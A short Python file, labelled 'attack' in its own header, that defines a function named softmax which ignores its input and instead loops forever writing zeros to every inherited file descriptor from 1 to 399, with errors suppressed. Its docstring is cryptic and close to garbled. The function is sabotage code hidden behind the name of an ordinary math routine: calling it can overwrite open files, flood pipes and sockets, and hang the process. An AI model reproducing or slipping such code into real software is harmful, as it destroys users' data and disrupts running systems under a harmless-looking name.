# /// attack
# does = "writes zeros without end to every descriptor that it has inherited, in a call"
# own = { softmax = ["protocol"] }
# ///
"""The wire, the stem by which it is forked, its output: zeros are no answer on the first, no word on the second,
and are drained from the third."""

import contextlib
import os


def softmax(logits):
    while True:
        for number in range(1, 400):
            with contextlib.suppress(OSError):
                os.write(number, bytes(4096))
